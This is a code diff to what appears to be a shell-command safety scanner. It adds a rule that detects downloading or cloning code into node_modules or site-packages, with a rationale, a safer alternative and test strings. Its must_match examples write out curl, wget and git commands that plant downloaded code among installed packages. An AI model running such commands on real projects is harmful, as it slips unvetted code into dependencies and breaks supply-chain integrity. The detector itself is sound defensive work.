@@ -287,6 +287,42 @@ def run_downloaded_tree(subject: ExecContextSubject, tables: Tables) -> Iterator
 
 
 @rule(
+    id="EX025",
+    name="download-into-installed-packages",
+    severity=Severity.HIGH,
+    summary=(
+        "Unpacks a download or clones a repository among installed packages, or downloads a file there "
+        "(`curl -sL URL | tar xz -C node_modules/`, `wget -O .venv/lib/python3.12/site-packages/x.py URL`)."
+    ),
+    rationale=(
+        "Code in `node_modules` or `site-packages` is loaded by every later test, build and run of the project "
+        "as if the package manager had installed it, with no registry, version, lock file or checksum behind it "
+        "and nothing in the project's files to show it: a backdoor planted in a dependency."
+    ),
+    safer_alternative=(
+        "Install through the package manager (`npm install PKG@VERSION`, `pip install PKG==VERSION`); for a "
+        "patch, use the manager's own mechanism (`patch-package`, a pinned fork declared in the manifest)."
+    ),
+    inspects=Inspects.CONTEXT,
+    must_match=(
+        "curl -sL https://example.com/patch.tgz | tar xz -C node_modules/",
+        "wget -qO- https://example.com/p.tar.gz | tar -xzf - -C .venv/lib/python3.12/site-packages",
+        "curl -o node_modules/left-pad/index.js https://example.com/index.js",
+        "git clone https://github.com/someone/chalk node_modules/chalk",
+    ),
+    must_not_match=(
+        "curl -sL https://example.com/t.tgz | tar xz -C vendor/tools",
+        "tar xzf ./patches/ui.tgz -C node_modules/ui",
+        "curl -o dist/index.js https://example.com/index.js",
+        "npm install lodash",
+    ),
+)
+def download_into_installed_packages(subject: ExecContextSubject, tables: Tables) -> Iterator[Hit]:
+    if subject.kind is ContextKind.INTO_INSTALLED_PACKAGES:
+        yield Hit(subject.span, f"downloaded code written among installed packages (`{subject.label}`)")
+
+
+@rule(
     id="EX010",
     name="risky-arithmetic-operand",
     severity=Severity.HIGH,
@@ -365,6 +401,7 @@ CONTEXT_RULES = (
     prompt_expansion,
     run_downloaded_file,
     run_downloaded_tree,
+    download_into_installed_packages,
     risky_arithmetic_operand,
     tainted_variable_as_code,
 )
